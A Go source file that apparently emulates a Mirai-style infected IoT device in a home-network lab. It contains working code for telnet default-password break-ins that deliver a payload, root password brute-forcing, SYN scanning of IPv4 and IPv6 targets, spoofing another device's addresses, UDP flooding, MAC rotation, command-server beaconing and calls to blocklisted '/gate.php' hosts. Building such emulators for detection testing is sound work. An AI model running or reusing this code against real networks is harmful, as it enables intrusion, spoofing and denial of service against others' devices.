package bot

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"

	"cardea/home"
	"cardea/lab/device"
	"cardea/lab/frame"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// lanTelnet tries telnet at the neighbours, a few at a time, and breaks in where the default password works.
func lanTelnet(b *Bot, ctx context.Context, r *rand.Rand) error {
	own := b.Device.Lease().Addr.Addr()
	var list []netip.Addr
	var open []netip.Addr
	for _, d := range b.Plan.Devices {
		switch {
		case d.IPv4 == own || d.Later:
		case d.Telnet:
			open = append(open, d.IPv4)
		default:
			list = append(list, d.IPv4)
		}
	}
	r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	// it knows its neighbours from ARP and multicast: few attempts, and the open one among the first
	list = append(list[:min(len(list), 1+r.IntN(2))], append(open, list[min(len(list), 2):min(len(list), 4)]...)...)
	var wait sync.WaitGroup
	for _, a := range list {
		wait.Go(func() { b.breakIn(ctx, a) })
		if !sleep(ctx, time.Duration(30+r.IntN(60))*time.Millisecond) {
			break
		}
	}
	wait.Wait()
	return nil
}

func (b *Bot) breakIn(ctx context.Context, a netip.Addr) {
	short, cancel := context.WithTimeout(ctx, 1500*time.Millisecond)
	defer cancel()
	c, err := b.Device.Space.Dial(short, "tcp", netip.AddrPortFrom(a, 23).String())
	if err != nil {
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	in := bufio.NewReader(c)
	for _, say := range []struct{ prompt, line string }{
		{"login: ", b.Plan.Attack.User}, {"Password: ", b.Plan.Attack.Password}, {"# ", device.Payload}, {"# ", ""},
	} {
		if !readUntil(in, say.prompt) {
			return
		}
		if _, err := io.WriteString(c, say.line+"\n"); err != nil {
			return
		}
	}
}

// guessLogin makes some five connections a second to the neighbour with telnet, with three wrong passwords in each.
func guessLogin(b *Bot, ctx context.Context, r *rand.Rand) error {
	for _, d := range b.Plan.Devices {
		if !d.Telnet || d.Name == b.Device.Name {
			continue
		}
		for sleep(ctx, time.Duration(100+r.IntN(200))*time.Millisecond) {
			b.guess(ctx, netip.AddrPortFrom(d.IPv4, 23), r.IntN(1000000))
		}
		return nil
	}
	return nil
}

func (b *Bot) guess(ctx context.Context, at netip.AddrPort, number int) {
	short, cancel := context.WithTimeout(ctx, 1500*time.Millisecond)
	defer cancel()
	c, err := b.Device.Space.Dial(short, "tcp", at.String())
	if err != nil {
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	in := bufio.NewReader(c)
	for i := range 3 {
		if !readUntil(in, "login: ") {
			return
		}
		_, _ = io.WriteString(c, "root\n")
		if !readUntil(in, "Password: ") {
			return
		}
		fmt.Fprintf(c, "%06d\n", number+i)
	}
}

func readUntil(in *bufio.Reader, prompt string) bool {
	var got strings.Builder
	for got.Len() < 2048 {
		c, err := in.ReadByte()
		if err != nil {
			return false
		}
		got.WriteByte(c)
		if strings.HasSuffix(got.String(), prompt) {
			return true
		}
	}
	return false
}

// wanScan looks for telnet on the internet, by raw SYNs or by ordinary connects as the plan says.
func wanScan(b *Bot, ctx context.Context, r *rand.Rand) error {
	at := b.Plan.Attack
	next := func() netip.AddrPort {
		port := at.Ports[0]
		if r.IntN(10) == 0 {
			port = at.Ports[r.IntN(len(at.Ports))]
		}
		return netip.AddrPortFrom(target(r, at.Targets), port)
	}
	if !at.Raw {
		return b.connects(ctx, at.Rate, next)
	}
	router, ok := b.routerMAC(ctx)
	if !ok {
		return nil
	}
	sport := uint16(1024 + r.IntN(60000)) // one for all, as Mirai does
	return b.pump(ctx, at.Rate, func() []byte {
		from := b.Device.Lease().Addr.Addr()
		if !from.IsValid() {
			return nil
		}
		return frame.SYN(b.Device.HardwareAddr(), router, netip.AddrPortFrom(from, sport), next(), r.Uint32())
	})
}

// connects scans with the kernel's own TCP: connections that nobody answers, given up after a second.
func (b *Bot) connects(ctx context.Context, rate int, next func() netip.AddrPort) error {
	type attempt struct {
		fd    int
		until time.Time
	}
	var open []attempt
	defer func() {
		for _, a := range open {
			_ = unix.Close(a.fd)
		}
	}()
	return b.Device.Space.Do(func() error { // one thread stays in the namespace for as long as the scan runs
		gap := time.Second / time.Duration(rate)
		for sleep(ctx, gap) {
			now := time.Now()
			for len(open) > 0 && (now.After(open[0].until) || len(open) > 2000) {
				_ = unix.Close(open[0].fd)
				open = open[1:]
			}
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				continue // out of descriptors: some are closed soon
			}
			to := next()
			_ = unix.Connect(fd, &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().As4()}) // in progress, or refused
			open = append(open, attempt{fd, now.Add(time.Second)})
		}
		return nil
	})
}

// scan6 takes several addresses in the home's prefix and scans from all of them.
func scan6(b *Bot, ctx context.Context, r *rand.Rand) error {
	prefix := b.Plan.LAN.GUA.Masked()
	var from []netip.Addr
	link, err := b.Device.Space.NL.LinkByName(device.Iface)
	if err != nil {
		return fmt.Errorf("bot: %w", err)
	}
	for range 5 {
		a := target(r, prefix)
		ip := &net.IPNet{IP: a.AsSlice(), Mask: net.CIDRMask(64, 128)}
		if err := b.Device.Space.NL.AddrAdd(link, &netlink.Addr{IPNet: ip}); err == nil {
			from = append(from, a)
		}
	}
	router, ok := b.routerMAC(ctx)
	if !ok || len(from) == 0 {
		return nil
	}
	at := b.Plan.Attack
	return b.pump(ctx, at.Rate, func() []byte {
		src := netip.AddrPortFrom(from[r.IntN(len(from))], uint16(1024+r.IntN(60000)))
		dst := netip.AddrPortFrom(target(r, at.Targets6), at.Ports[r.IntN(len(at.Ports))])
		return frame.SYN(b.Device.HardwareAddr(), router, src, dst, r.Uint32())
	})
}

// forge scans with another device's addresses, from its own port.
func forge(b *Bot, ctx context.Context, r *rand.Rand) error {
	innocent, ok := b.Plan.Device(b.Framed)
	router, found := b.routerMAC(ctx)
	if !ok || !found {
		return nil
	}
	at := b.Plan.Attack
	return b.pump(ctx, at.Rate, func() []byte {
		src := netip.AddrPortFrom(innocent.IPv4, uint16(1024+r.IntN(60000)))
		return frame.SYN(innocent.MAC, router, src, netip.AddrPortFrom(target(r, at.Targets), at.Ports[0]), r.Uint32())
	})
}

// flood sends UDP to one address, ten times as fast as a scan.
func flood(b *Bot, ctx context.Context, r *rand.Rand) error {
	router, ok := b.routerMAC(ctx)
	if !ok {
		return nil
	}
	at := b.Plan.Attack
	to := netip.AddrPortFrom(target(r, at.Targets), at.FloodPort)
	payload := make([]byte, 64+r.IntN(400))
	return b.pump(ctx, at.Rate*10, func() []byte {
		from := b.Device.Lease().Addr.Addr()
		if !from.IsValid() {
			return nil
		}
		return frame.UDP(b.Device.HardwareAddr(), router, netip.AddrPortFrom(from, uint16(1024+r.IntN(60000))), to, payload)
	})
}

// changeMAC takes a new address every few seconds.
func changeMAC(b *Bot, ctx context.Context, r *rand.Rand) error {
	for sleep(ctx, time.Duration(2500+r.IntN(2000))*time.Millisecond) {
		mac := home.MAC{0x02, byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))}
		if err := b.Device.ChangeMAC(ctx, mac); err != nil {
			b.Log.Debug("bot: change address", "error", err)
		}
	}
	return nil
}

// callHome keeps asking the command server.
func callHome(b *Bot, ctx context.Context, r *rand.Rand) error {
	for {
		b.call(ctx, b.Plan.Attack.C2, "BOT "+string(b.Device.Kind)+"\n")
		every := b.Plan.Attack.C2Every
		if !sleep(ctx, every*9/10+time.Duration(r.Int64N(int64(every/5)))) {
			return nil
		}
	}
}

func (b *Bot) call(ctx context.Context, to netip.AddrPort, say string) {
	short, cancel := context.WithTimeout(ctx, 3*time.Second)
	defer cancel()
	c, err := b.Device.Space.Dial(short, "tcp", to.String())
	if err != nil {
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	if _, err := io.WriteString(c, say); err == nil {
		_, _ = c.Read(make([]byte, 256))
	}
}

// callListed looks names on the blocklist up and calls what they resolve to.
func callListed(b *Bot, ctx context.Context, r *rand.Rand) error {
	names := b.Plan.Attack.Blocked
	for {
		name := names[r.IntN(len(names))]
		if a, err := b.Device.Resolve(ctx, name, false); err == nil {
			b.call(ctx, netip.AddrPortFrom(a, 80), "GET /gate.php HTTP/1.0\r\nHost: "+name+"\r\n\r\n")
		}
		if !sleep(ctx, time.Duration(800+r.IntN(1200))*time.Millisecond) {
			return nil
		}
	}
}
